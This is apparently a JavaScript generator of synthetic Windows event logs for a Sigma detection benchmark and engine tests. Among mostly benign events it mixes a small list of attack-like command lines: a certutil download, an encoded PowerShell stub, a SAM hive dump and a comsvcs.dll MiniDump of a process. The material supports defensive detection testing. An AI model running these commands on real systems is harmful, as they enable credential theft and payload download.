// Generated Windows events for the Sigma benchmark and the engine's tests: evtx_dump-layout JSON (the layout of
// SigmaHQ's regression samples and of `kahu evtx dump`), mostly ordinary activity with 2% attack-like command lines.
// Plain JavaScript so that the benchmark's child process can run it under plain node beside the compiled package;
// its types are in windows-events.d.mts.

/**
 * Deterministic generator of evtx_dump-layout Windows events as JSON text (slices of `slice` events). */
export function* generate(total, slice) {
  let x = 12345;
  const rnd = (n) => ((x = (x * 1103515245 + 12345) & 0x7fffffff) % n);
  const pick = (a) => a[rnd(a.length)];
  const images = [
    'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\rundll32.exe',
    'C:\\Windows\\System32\\conhost.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
    'C:\\Users\\bob\\AppData\\Local\\Temp\\setup.exe', 'C:\\Windows\\System32\\reg.exe', 'C:\\Windows\\System32\\certutil.exe',
  ];
  // Mostly ordinary activity; 2% of command lines are attack-like, so findings stay at a realistic rate.
  const benign = [
    'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'cmd.exe /c dir C:\\Users\\bob\\Documents',
    '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1234',
    'C:\\Windows\\Explorer.EXE', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
    '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\bob\\report.docx"',
    'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding',
    '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -Command Get-Service',
  ];
  const suspicious = [
    'certutil.exe -urlcache -split -f http://example.test/a.txt a.txt', 'powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=',
    'cmd.exe /c whoami /all', 'reg.exe save HKLM\\SAM C:\\Users\\Public\\sam.save', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\x.dmp full',
  ];
  const cmd = () => (rnd(100) < 2 ? pick(suspicious) : pick(benign));
  /** A process creation: image, command line, parent image (ordinary pairs; 2% attack-like command lines). */
  const normal = [
    ['C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'C:\\Windows\\System32\\services.exe'],
    ['C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c dir C:\\Users\\bob\\Documents', 'C:\\Windows\\explorer.exe'],
    ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'],
    ['C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff', 'C:\\Windows\\System32\\cmd.exe'],
    ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\bob\\report.docx"', 'C:\\Windows\\explorer.exe'],
    ['C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', 'C:\\Windows\\System32\\svchost.exe'],
    ['C:\\Windows\\System32\\RuntimeBroker.exe', 'C:\\Windows\\System32\\RuntimeBroker.exe -Embedding', 'C:\\Windows\\System32\\svchost.exe'],
    ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -Command Get-Service', 'C:\\Windows\\explorer.exe'],
  ];
  const proc = () => {
    const p = pick(normal);
    return rnd(100) < 2 ? [p[0], pick(suspicious), p[2]] : p;
  };
  const users = ['CORP\\bob', 'CORP\\alice', 'NT AUTHORITY\\SYSTEM', 'CORP\\svc_backup'];
  const regs = ['HKLM\\System\\CurrentControlSet\\Services\\x\\Start', 'HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x', 'HKLM\\Software\\Classes\\x'];
  const sys = (channel, provider, id, rec) => ({
    Provider: { '#attributes': { Name: provider } },
    EventID: id,
    Level: 4,
    TimeCreated: { '#attributes': { SystemTime: new Date(1_700_000_000_000 + rec * 37).toISOString() } },
    EventRecordID: rec,
    Execution: { '#attributes': { ProcessID: 3208, ThreadID: 1724 } },
    Channel: channel,
    Computer: `ws${rec % 50}.corp.local`,
    Security: { '#attributes': { UserID: 'S-1-5-18' } },
  });
  const SYSMON = 'Microsoft-Windows-Sysmon/Operational';
  for (let start = 0; start < total; start += slice) {
    const parts = [];
    for (let rec = start; rec < Math.min(total, start + slice); rec++) {
      const k = rnd(100);
      let ev;
      if (k < 35) {
        const [image, commandLine, parentImage] = proc();
        ev = { System: sys(SYSMON, 'Microsoft-Windows-Sysmon', 1, rec), EventData: { RuleName: '-', UtcTime: '2024-01-01 00:00:00.000', ProcessGuid: '{0197231E-C424-69E1-C922-000000000800}', ProcessId: rnd(9000), Image: image, FileVersion: '10.0.19041.1', Description: 'Windows host process', Product: 'Microsoft® Windows® Operating System', Company: 'Microsoft Corporation', OriginalFileName: image.split('\\').pop(), CommandLine: commandLine, CurrentDirectory: 'C:\\Windows\\system32\\', User: pick(users), LogonGuid: '{x}', LogonId: '0x3e7', TerminalSessionId: 0, IntegrityLevel: 'Medium', Hashes: `SHA256=${(rec * 2654435761).toString(16).toUpperCase().padStart(64, '0')}`, ParentProcessGuid: '{y}', ParentProcessId: 1000, ParentImage: parentImage, ParentCommandLine: parentImage, ParentUser: pick(users) } };
      } else if (k < 50) {
        ev = { System: sys(SYSMON, 'Microsoft-Windows-Sysmon', 3, rec), EventData: { Image: pick(images), User: pick(users), Protocol: 'tcp', Initiated: 'true', SourceIp: `10.0.${rnd(255)}.${rnd(255)}`, SourcePort: rnd(65535), DestinationIp: `52.${rnd(255)}.${rnd(255)}.${rnd(255)}`, DestinationPort: pick([443, 80, 445, 3389]), DestinationHostname: 'example.test' } };
      } else if (k < 65) {
        ev = { System: sys(SYSMON, 'Microsoft-Windows-Sysmon', 11, rec), EventData: { Image: pick(images), TargetFilename: `C:\\Users\\bob\\AppData\\Local\\Temp\\f${rnd(1000)}.${pick(['tmp', 'dll', 'exe', 'ps1', 'txt'])}`, User: pick(users) } };
      } else if (k < 80) {
        ev = { System: sys(SYSMON, 'Microsoft-Windows-Sysmon', 13, rec), EventData: { EventType: 'SetValue', Image: pick(images), TargetObject: pick(regs), Details: pick(['DWORD (0x00000002)', 'C:\\Users\\bob\\x.exe', '(Empty)']), User: pick(users) } };
      } else if (k < 90) {
        ev = { System: sys('Security', 'Microsoft-Windows-Security-Auditing', 4624, rec), EventData: { SubjectUserSid: 'S-1-5-18', TargetUserName: pick(['bob', 'alice', 'svc_backup']), TargetDomainName: 'CORP', LogonType: pick([2, 3, 10]), IpAddress: `10.0.0.${rnd(255)}`, AuthenticationPackageName: 'Negotiate', LogonProcessName: 'User32' } };
      } else if (k < 95) {
        ev = { System: sys('Security', 'Microsoft-Windows-Security-Auditing', 4688, rec), EventData: { SubjectUserName: 'bob', SubjectLogonId: '0x3e7', NewProcessId: '0x1a2b', NewProcessName: pick(images), ProcessId: '0x1000', CommandLine: cmd(), ParentProcessName: pick(images), MandatoryLabel: 'S-1-16-12288' } };
      } else {
        ev = { System: sys('Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, rec), EventData: { MessageNumber: 1, MessageTotal: 1, ScriptBlockText: pick(['Get-Process | Select-Object Name', 'Invoke-WebRequest -Uri http://example.test -OutFile x', 'Write-Host hello', '$a = [Convert]::FromBase64String($b)']), ScriptBlockId: '{z}', Path: '' } };
      }
      parts.push(JSON.stringify({ Event: ev }, null, 2));
    }
    yield parts.join('\n');
  }
}
